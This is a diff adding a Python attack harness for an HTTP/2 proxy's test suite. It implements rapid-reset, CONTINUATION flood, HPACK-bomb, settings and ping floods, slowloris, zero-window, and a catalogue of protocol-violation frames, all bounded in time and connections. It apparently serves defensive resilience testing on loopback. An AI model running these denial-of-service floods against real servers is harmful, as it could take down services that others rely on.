@@ -1,0 +1,336 @@
+#!/usr/bin/python3
+"""Hostile HTTP/2 callers for wisp's attack suite (issue 9), loopback only.
+
+  attack.py NAME --port P [--seconds S] [options]
+
+Every attack is bounded in time (--seconds, at most 30) and in connections,
+and ends by closing what it opened. It prints one summary line
+  attack NAME: key=value ...
+and exits 0: the test judges the proxy (alive, /healthz, RSS, log, the good
+client beside it), not the attacker. NAMEs:
+
+  rapid-reset   HEADERS+RST_STREAM(CANCEL) pairs as fast as the proxy reads
+                them, on --conns connections; reconnects after GOAWAY
+  hold          --conns x --streams requests to --path (one that never
+                answers), held open
+  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE,
+                --streams requests for --path (a large response) per connection
+  idle          --conns connections that send the preface (--no-preface:
+                nothing) and then nothing; --tls CERT KEY CA for mTLS
+  continuation  HEADERS then endless CONTINUATION frames
+  settings-flood, ping-flood
+                frames that each demand an ACK, never reading the ACKs
+  hpack-bomb    a 4 KB header in the dynamic table referenced by 1-byte
+                indexes (a 16 KB block that decodes to 64 MB)
+  slowloris     --conns connections trickling the preface or a header block
+                one byte at a time
+  invalid       a catalogue of protocol violations, each on a new connection
+"""
+import argparse
+import os
+import sys
+import threading
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import wire  # noqa: E402
+
+MAX_SECONDS = 30
+MAX_CONNS = 5000
+
+
+def report(name, **kv):
+    print(f"attack {name}: " + " ".join(f"{k}={v}" for k, v in kv.items()), flush=True)
+
+
+def opening(extra_settings=()):
+    return wire.PREFACE + wire.settings(extra_settings)
+
+
+class Deadline:
+    def __init__(self, seconds):
+        self.end = time.monotonic() + min(seconds, MAX_SECONDS)
+
+    def left(self):
+        return self.end - time.monotonic()
+
+    def __bool__(self):
+        return self.left() > 0
+
+
+def reconnecting_flood(args, name, first, batch):
+    """On --conns threads: open a connection, send |first|, then batch(i)
+    (i counts batches on the connection) until the peer closes or sends
+    GOAWAY, then reconnect; all until the deadline."""
+    dl = Deadline(args.seconds)
+    totals = {"connections": 0, "bytes": 0, "goaways": 0, "refused": 0, "batches": 0}
+    lock = threading.Lock()
+
+    def run():
+        local = dict.fromkeys(totals, 0)
+        while dl:
+            try:
+                s = wire.connect(args.port, timeout=2)
+            except OSError:
+                local["refused"] += 1
+                time.sleep(0.05)
+                continue
+            local["connections"] += 1
+            rd = wire.Reader()
+            n = wire.send_some(s, first, min(1.0, max(0.0, dl.left())))
+            i = 0
+            while n >= 0 and dl and rd.goaway is None:
+                n = wire.send_some(s, batch(i), min(0.5, max(0.0, dl.left())))
+                if n > 0:
+                    local["bytes"] += n
+                    local["batches"] += 1
+                i += 1
+                if not wire.drain(s, rd if not args.no_read else None):
+                    break
+            if rd.goaway is not None:
+                local["goaways"] += 1
+            wire.close(s)
+        with lock:
+            for k, v in local.items():
+                totals[k] += v
+
+    threads = [threading.Thread(target=run, daemon=True) for _ in range(args.conns)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(MAX_SECONDS + 5)
+    report(name, seconds=args.seconds, conns=args.conns, **totals)
+
+
+def rapid_reset(args):
+    block = wire.request_block(args.path)
+    per = 200
+
+    def batch(i):
+        first = 1 + 2 * per * i
+        return b"".join(wire.headers(sid, block) + wire.rst(sid) for sid in range(first, first + 2 * per, 2))
+
+    reconnecting_flood(args, "rapid-reset", opening(), batch)
+
+
+def continuation(args):
+    junk = b"".join(wire.literal_new_name("x-junk-%d" % k, "j" * 200) for k in range(60))
+
+    def batch(i):
+        return b"".join(wire.frame(wire.CONTINUATION, 0, 1, junk) for _ in range(16))
+
+    first = opening() + wire.headers(1, wire.request_block(args.path), end_stream=True, end_headers=False)
+    reconnecting_flood(args, "continuation", first, batch)
+
+
+def settings_flood(args):
+    one = wire.settings([(wire.SETTINGS_MAX_CONCURRENT_STREAMS, 100)])
+    args.no_read = True
+    reconnecting_flood(args, "settings-flood", opening(), lambda i: one * 2000)
+
+
+def ping_flood(args):
+    one = wire.ping()
+    args.no_read = True
+    reconnecting_flood(args, "ping-flood", opening(), lambda i: one * 2000)
+
+
+def hpack_bomb(args):
+    value = "b" * 4000
+    # Entry 62 is the newest dynamic-table entry: x-bomb, 4,000 bytes.
+    seed = wire.request_block(args.path) + wire.literal_new_name("x-bomb", value, indexed=True)
+    refs = wire.indexed(62) * 16000
+
+    def batch(i):
+        sid = 1 + 2 * i
+        block = seed + refs
+        frames = [wire.headers(sid, block[:16000], end_headers=False)]
+        rest = block[16000:]
+        while rest:
+            chunk, rest = rest[:16000], rest[16000:]
+            frames.append(wire.frame(wire.CONTINUATION, 0 if rest else wire.END_HEADERS, sid, chunk))
+        return b"".join(frames)
+
+    reconnecting_flood(args, "hpack-bomb", opening([(wire.SETTINGS_HEADER_TABLE_SIZE, 4096)]), batch)
+
+
+def open_many(args, first, tls=None):
+    """Opens up to --conns connections (bounded by the deadline), each sent
+    |first|; returns (sockets, refused)."""
+    dl = Deadline(args.seconds)
+    socks, refused = [], 0
+    for _ in range(min(args.conns, MAX_CONNS)):
+        if not dl:
+            break
+        try:
+            s = wire.connect(args.port, tls=tls, timeout=2)
+            if first:
+                s.sendall(first)
+            socks.append(s)
+        except OSError:
+            refused += 1
+    return socks, refused, dl
+
+
+def hold_open(socks, dl, step=None, tick=0.2):
+    """Keeps |socks| open until the deadline, reading what the peer sends;
+    step(i, sock) is called each round (every |tick| s). Returns how many
+    the peer closed and how many are still open at the end."""
+    alive = list(socks)
+    closed = 0
+    i = 0
+    while dl and alive:
+        still = []
+        for s in alive:
+            if wire.drain(s) and (step is None or step(i, s)):
+                still.append(s)
+            else:
+                closed += 1
+                wire.close(s)
+        alive = still
+        i += 1
+        time.sleep(min(tick, max(0.0, dl.left())))
+    for s in alive:
+        wire.close(s)
+    return closed, len(alive)
+
+
+
+def idle(args):
+    tls = wire.mtls_context(*args.tls) if args.tls else None
+    socks, refused, dl = open_many(args, None if args.no_preface else opening(), tls)
+    opened = len(socks)
+    closed, alive = hold_open(socks, dl)
+    report("idle", tls=bool(tls), opened=opened, refused=refused, closed_by_peer=closed,
+           alive_at_end=alive)
+
+
+def hold(args):
+    block = wire.request_block(args.path)
+    reqs = b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))
+    socks, refused, dl = open_many(args, opening() + reqs)
+    closed, alive = hold_open(socks, dl)
+    report("hold", conns=len(socks), streams=len(socks) * args.streams, refused=refused,
+           closed_by_peer=closed, alive_at_end=alive)
+
+
+def zero_window(args):
+    block = wire.request_block(args.path)
+    reqs = b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))
+    first = opening([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0)]) + reqs
+    socks, refused, dl = open_many(args, first)
+    closed, alive = hold_open(socks, dl)
+    report("zero-window", conns=len(socks), streams=len(socks) * args.streams, refused=refused,
+           closed_by_peer=closed, alive_at_end=alive)
+
+
+def slowloris(args):
+    """Half the connections trickle the preface, half a header block."""
+    plan = {}
+    block = wire.request_block(args.path)
+
+    def step(i, s):
+        data = plan[s]
+        if i < len(data):
+            return wire.send_some(s, data[i:i + 1], 0.1) >= 0
+        return True
+
+    socks, refused, dl = open_many(args, None)
+    for k, s in enumerate(socks):
+        if k % 2:
+            plan[s] = wire.PREFACE + wire.settings()
+        else:
+            s.sendall(opening() + wire.headers(1, block[:4], end_stream=True, end_headers=False))
+            plan[s] = wire.frame(wire.CONTINUATION, wire.END_HEADERS, 1, block[4:])
+    closed, alive = hold_open(socks, dl, step)
+    report("slowloris", opened=len(socks), refused=refused, closed_by_peer=closed, alive_at_end=alive)
+
+
+# Each: bytes after the preface and SETTINGS. All are connection errors
+# (RFC 9113) or must be ignored; none may crash or hang the proxy.
+def _invalid_cases(path):
+    block = wire.request_block(path)
+    return {
+        "data-on-stream-0": wire.frame(wire.DATA, 0, 0, b"x"),
+        "headers-on-even-stream": wire.headers(2, block),
+        "headers-on-stream-0": wire.headers(0, block),
+        "oversized-frame": wire.frame(wire.DATA, 0, 1, b"x" * 20000),
+        "window-update-zero": wire.window_update(0, 0),
+        "window-overflow": wire.window_update(0, 0x7FFFFFFF) * 2,
+        "settings-bad-push": wire.settings([(wire.SETTINGS_ENABLE_PUSH, 2)]),
+        "settings-huge-window": wire.settings([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0x80000000)]),
+        "settings-bad-frame-size": wire.settings([(wire.SETTINGS_MAX_FRAME_SIZE, 100)]),
+        "settings-ack-with-payload": wire.frame(wire.SETTINGS, wire.ACK, 0, b"\0" * 6),
+        "ping-wrong-length": wire.frame(wire.PING, 0, 0, b"x" * 7),
+        "priority-self-dependency": wire.frame(wire.PRIORITY, 0, 1, b"\0\0\0\1\x10"),
+        "rst-on-idle-stream": wire.rst(11),
+        "continuation-without-headers": wire.frame(wire.CONTINUATION, wire.END_HEADERS, 1, block),
+        "push-promise-from-client": wire.frame(wire.PUSH_PROMISE, wire.END_HEADERS, 1, b"\0\0\0\2" + block),
+        "bad-padding": wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM | wire.PADDED, 1,
+                                  bytes([255]) + block),
+        "bad-hpack-index": wire.headers(1, wire.indexed(200)),
+        "uppercase-header": wire.headers(1, block + wire.literal_new_name("X-Upper", "1")),
+        "connection-header": wire.headers(1, block + wire.literal_new_name("connection", "close")),
+        "data-after-end-stream": wire.headers(1, block) + wire.frame(wire.DATA, wire.END_STREAM, 1, b"x"),
+        "unknown-frame-type": wire.frame(0xFA, 0, 0, b"ignored") + wire.headers(1, block),
+        "goaway-then-headers": wire.frame(wire.GOAWAY, 0, 0, b"\0\0\0\0\0\0\0\0") + wire.headers(1, block),
+        "garbage-preface": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+    }
+
+
+def invalid(args):
+    cases = _invalid_cases(args.path)
+    dl = Deadline(args.seconds)
+    sent, answered, refused = 0, 0, 0
+    silent = set()
+    rounds = 0
+    while dl and rounds < 50:
+        rounds += 1
+        for name, bad in cases.items():
+            if not dl:
+                break
+            try:
+                s = wire.connect(args.port, timeout=2)
+            except OSError:
+                refused += 1
+                continue
+            rd = wire.Reader()
+            first = bad if name == "garbage-preface" else opening() + bad
+            if wire.send_some(s, first, 0.5) >= 0:
+                sent += 1
+            # The proxy answers (GOAWAY, RST_STREAM, a response) or closes.
+            if wire.await_answer(s, rd, 1.0):
+                answered += 1
+            else:
+                silent.add(name)
+            wire.close(s)
+    report("invalid", cases=len(cases), rounds=rounds, sent=sent, answered_or_closed=answered,
+           refused=refused, silent=",".join(sorted(silent)) or "none")
+
+
+ATTACKS = {
+    "rapid-reset": rapid_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
+    "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
+    "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid,
+}
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("attack", choices=sorted(ATTACKS))
+    ap.add_argument("--port", type=int, required=True)
+    ap.add_argument("--seconds", type=float, default=8.0)
+    ap.add_argument("--conns", type=int, default=1)
+    ap.add_argument("--streams", type=int, default=256)
+    ap.add_argument("--path", default="/")
+    ap.add_argument("--tls", nargs=3, metavar=("CERT", "KEY", "CA"))
+    ap.add_argument("--no-preface", action="store_true")
+    ap.add_argument("--no-read", action="store_true")
+    args = ap.parse_args()
+    if not 0 < args.seconds <= MAX_SECONDS or not 0 < args.conns <= MAX_CONNS:
+        ap.error(f"--seconds must be in (0, {MAX_SECONDS}] and --conns in (0, {MAX_CONNS}]")
+    ATTACKS[args.attack](args)
+
+
+if __name__ == "__main__":
+    main()
